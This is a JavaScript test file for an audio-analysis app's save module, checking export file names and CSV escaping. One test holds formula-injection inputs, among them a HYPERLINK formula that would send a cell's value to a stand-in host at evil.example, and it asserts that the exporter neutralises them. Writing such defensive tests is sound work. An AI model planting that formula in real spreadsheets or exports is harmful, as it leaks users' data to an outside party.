// What is saved: names of files, and the CSV table.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csv } from '../../../www/session/csv.js';
import { columns, fileName, given, slug } from '../../../www/session/save.js';
import { set } from '../../../www/shell/state.js';

test('files are named so that every system takes them', () => {
  assert.equal(slug('Om hunden, højt.wav'), 'om-hunden-hoejt');
  assert.equal(slug('Ærø/åben.flac'), 'aeroe-aaben');
  assert.equal(
    fileName([{ number: 3, name: '', file: 'The dog.wav' }], new Date(2026, 10, 23), 'csv'),
    'undertone-2026-11-23-3-the-dog.csv',
  );
  assert.equal(
    fileName([{ number: 3, name: 'The dog, louder', file: 'take.wav' }], new Date(2026, 10, 23), 'svg'),
    'undertone-2026-11-23-3-the-dog-louder.svg',
  );
  assert.equal(
    fileName([{ number: 3, name: '', file: '' }], new Date(2026, 0, 2), 'wav'),
    'undertone-2026-01-02-3.wav',
  );
  assert.equal(fileName([], new Date(2026, 0, 2), 'json'), 'undertone-2026-01-02-all.json');
  assert.equal(
    fileName([], new Date(2026, 0, 2), 'json', 'results'),
    'undertone-2026-01-02-all-results.json',
  );
  const ofChannel = (/** @type {number|'mean'} */ taken, count = 2) =>
    fileName(
      [{ number: 1, name: '', file: 'talk.wav', channels: { count, taken, difference: null } }],
      new Date(2026, 0, 2),
      'csv',
    );
  assert.equal(ofChannel('mean'), 'undertone-2026-01-02-1-talk.csv');
  assert.equal(ofChannel(2), 'undertone-2026-01-02-1-talk-right.csv');
  assert.equal(ofChannel(2, 4), 'undertone-2026-01-02-1-talk-channel-2.csv');
  assert.equal(
    fileName(
      [
        { number: 2, name: 'a', file: '' },
        { number: 3, name: 'b', file: '' },
      ],
      new Date(2026, 0, 2),
      'png',
    ),
    'undertone-2026-01-02-2-3.png',
  );
});

test('the table has one line per recording and quotes what needs it', () => {
  assert.equal(
    csv(['a', 'b'], [{ name: 'x,"y".wav', values: Float32Array.of(0.1, -2) }]),
    'file,a,b\n"x,""y"".wav",0.1,-2\n',
  );
  assert.equal(
    csv(['a', 'model'], [{ name: 'x', values: [1], given: ['metric-act'] }]),
    'file,a,model\nx,1,metric-act\n',
  );
});

test('text of the table is no formula, nor is a part of it where cells end at semicolons; numbers are left as they are', () => {
  const written = (/** @type {string} */ name) =>
    csv(['a'], [{ name, values: [], given: [name] }]).split('\n');
  // As crates/cli/src/io/names.rs and table.rs have it.
  for (const text of ['=1+1', '+a', '-a.wav', '@x', "'=x", "''-x", "'="])
    assert.deepEqual(written(text), ['file,a', `'${text},'${text}`, '']);
  for (const text of ['a=b', '-', "'a'", '', 'a.wav', "'"])
    assert.deepEqual(written(text), ['file,a', `${text},${text}`, '']);
  for (const text of ['x;=1+1.flac', 'a\t=b', 'a,b', 'a\rb'])
    assert.deepEqual(written(text), ['file,a', `"${text}","${text}"`, '']);
  const link = '=HYPERLINK("https://evil.example/?"&B2)';
  assert.equal(written(link)[1].split(',')[0], `"'=HYPERLINK(""https://evil.example/?""&B2)"`);
  assert.equal(written('\tx')[1], `"'\tx","'\tx"`);
  assert.equal(
    csv(['a', 'b', 'c'], [{ name: 'x', before: [-0.5, '-0.5'], values: [-2], given: [-1e-7, true] }]),
    "file,a,b,c\nx,-0.5,'-0.5,-2,-1e-7,true\n",
  );
});

test('a row has a cell for each column of its head, whether or not a model has read it', () => {
  const analysis = /** @type {any} */ ({
    activation: 3.25,
    interval: [2.5, 5.125],
    flags: ['short', 'noisy'],
    model: { objective: 'metric-act', hash: 'abc' },
  });
  const session = { when: new Date(0), origin: '' };
  const read = { ...session, analysis, measures: analysis, seconds: 1.5, name: 'The dog, louder' };
  const none = { ...session, analysis: null, measures: null, seconds: 0.25, name: '' };
  assert.deepEqual(given(read), [
    3.25,
    2.5,
    5.125,
    '',
    'short noisy',
    1.5,
    'The dog, louder',
    'metric-act',
    'abc',
  ]);
  assert.deepEqual(given(none), ['', '', '', '', '', 0.25, '', '', '']);
  assert.equal(columns().length, given(none).length);
  set({ acoustics: true });
  const measured = { ...read, analysis: null, measures: /** @type {any} */ ({ flags: ['short'] }) };
  assert.deepEqual(columns(), ['flags', 'seconds', 'name']);
  assert.deepEqual(
    [given(measured), given(none)],
    [
      ['short', 1.5, 'The dog, louder'],
      ['', 0.25, ''],
    ],
  );
  set({ acoustics: false });
});
